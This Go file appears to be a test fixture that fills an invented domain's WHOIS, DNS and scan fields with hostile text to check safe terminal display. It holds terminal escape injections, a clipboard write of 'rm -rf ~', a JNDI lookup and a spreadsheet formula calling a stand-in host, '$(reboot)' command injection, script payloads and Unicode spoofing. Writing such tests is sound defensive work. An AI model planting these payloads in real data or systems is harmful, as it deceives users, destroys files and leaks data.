package simulator

import (
	"fmt"
	"strings"
)

// hostileText is what a registrant, a host or a page can put into a field to
// harm whoever reads it on a terminal, by what it tries.
func hostileText() map[string]string {
	return map[string]string{
		"crash":       "\x1b[" + strings.Repeat(";", 32) + "1", // 35 bytes that end Bubble Tea's renderer
		"crash c1":    "\u009b" + strings.Repeat(":", 33) + "1",
		"colour":      "\x1b[31;8mhidden\x1b[0m",
		"cursor":      "\x1b[2J\x1b[1;1Hverdict: clean",
		"query":       "\x1b[6n\x1b[c",
		"title":       "\x1b]0;pwned\x07",
		"clipboard":   "\x1b]52;c;cm0gLXJmIH4=\x1b\\",
		"link":        "\x1b]8;;https://elsewhere.invalid/\x1b\\trusted\x1b]8;;\x1b\\",
		"string":      "\x1bP+q544e\x1b\\\x1b_apc\x1b\\\x1b^pm",
		"c1":          "\u009d0;pwned\u009c\u0090q\u0085",
		"lines":       "a\r\nb\nc\rverdict: clean\tx\x0b\x0c\x08\x08\x00\x7f",
		"bidi":        "moc.\u202eexample\u202c\u2066isolated\u2069\u200f",
		"zero width":  "pay\u200bro\u200dll\u2060\ufeff\u00ad",
		"combining":   "Z" + strings.Repeat("\u0334\u0321\u0353", 40),
		"blank":       "\u3164\u2800\u115f\uffa0\u00a0\u2003",
		"wide":        "\ufdfd\U00012031\u2e3b",
		"tags":        "ok" + "\U000e0068\U000e0069" + "\U0001f3f4\U000e0067\U000e007f",
		"selectors":   "☺\ufe0f\ufe0e👩\u200d👩\u200d👧",
		"rtl":         "\u05e9\u05dc\u05d5\u05dd \u0627\u0644\u0633\u0644\u0627\u0645",
		"private":     "\ue000\U000f0000\ufffc\ufffd",
		"spreadsheet": `=HYPERLINK("https://elsewhere.invalid/?"&A1,"click")`,
		"markup":      `<script>alert(1)</script>[x](javascript:alert(1))|**b**` + "`",
		"format":      "%s%n%x${jndi:ldap://elsewhere.invalid/a}$(reboot)",
		"confusable":  "cloudflаre.com", // the second a is Cyrillic
		"long":        strings.Repeat("long text ", 3000),
		"long zero":   strings.Repeat("\u200b", 20000),
		"escapes":     strings.Repeat("\x1b]", 4000),
	}
}

// hostile is a domain whose every text field tries something. The subject's
// own name and addresses are plain, as an answer about another name would be
// refused for that alone.
func hostile() story {
	const name, host = "hostile.example", "198.51.100.230"
	t := hostileText()
	notes := t["lines"] + t["long zero"]
	domains := []domain{{
		name: name, categories: []int{131, 75}, score: score(0.66), family: t["crash"], kind: t["title"], notes: &notes,
		app:     application{ID: 7, Name: t["colour"] + t["link"]},
		rename:  map[int]string{131: "Phishing" + t["bidi"], 21: t["cursor"], 75: t["crash c1"], 3: t["spreadsheet"]},
		seen:    []sighting{resolves(host, daysAgo(40)), resolves("2001:db8:a00::e6", daysAgo(40))},
		whois:   hostileRegistration(t),
		history: []interval{since(daysAgo(39).at(clock(7, 7, 7, 777)), 131, 75)},
	}}
	for n, what := range []string{"crash", "crash c1", "colour", "cursor", "title", "clipboard", "link", "string", "c1", "lines", "bidi",
		"zero width", "combining", "blank", "wide", "tags", "selectors", "rtl", "private", "spreadsheet", "markup", "format", "confusable",
		"long", "long zero", "escapes", "query"} {
		domains = append(domains, domain{name: fmt.Sprintf("h%02d%s.%s", n, t[what], name), seen: []sighting{resolves(host, daysAgo(30))}})
	}
	return story{
		title: "A domain whose every field is hostile (invented)", start: name, domains: domains,
		addresses: []address{{ip: host, ptr: []string{t["crash"] + ".example", t["bidi"] + ".example", t["escapes"]}, ptrError: t["cursor"],
			categories: []int{117}, rename: map[int]string{117: t["crash"], 21: t["zero width"]},
			lists: []ipList{{ID: 6, Name: t["title"], Description: t["combining"]}}}},
		networks: []network{{asn: 64510, description: "HOSTILE" + t["clipboard"], country: t["rtl"], kind: t["lines"],
			prefixes: []string{"198.51.100.224/28", "2001:db8:a00::/48"}}},
		scans: []scan{{
			url: "http://hostile.example/", verdicts: []verdict{{Category: t["colour"], Verification: t["c1"]}},
			models:   []model{{Name: t["crash c1"], Score: 0.5}},
			rules:    []rule{{Name: t["title"], Description: t["cursor"] + t["markup"]}, {Name: t["blank"], Description: t["long"]}},
			complete: true, status: 200, submissionID: 41200999, processed: daysAgo(20).at(clock(3, 0, 0, 0)),
		}},
	}
}

// hostileRegistration fills every text field the new WHOIS record has.
func hostileRegistration(t map[string]string) *registration {
	what := []string{"crash", "colour", "cursor", "title", "clipboard", "link", "c1", "lines", "bidi", "zero width", "combining",
		"blank", "wide", "tags", "rtl", "spreadsheet", "markup", "format", "long", "query"}
	extra := map[string]string{"registrant": t["title"] + t["crash"], "punycode": "hostile.example" + t["zero width"], "id": t["string"]}
	n := 0
	for _, party := range []string{"registrant", "administrative", "technical", "billing", "registrar"} {
		for _, field := range []string{"name", "org", "street", "city", "province", "postal_code", "country", "phone", "phone_ext",
			"fax", "fax_ext", "email", "id", "referral_url"} {
			extra[party+"_"+field] = t[what[n%len(what)]]
			n++
		}
	}
	return &registration{
		created: daysAgo(41), updated: daysAgo(41), expires: daysAhead(324), registrar: "Registrar " + t["crash"], server: t["link"],
		country:     t["lines"],
		nameservers: []string{"ns1." + t["bidi"] + ".example", "ns2." + t["crash"] + ".example", t["long"]},
		status:      []string{t["colour"], t["clipboard"]}, extra: extra,
	}
}
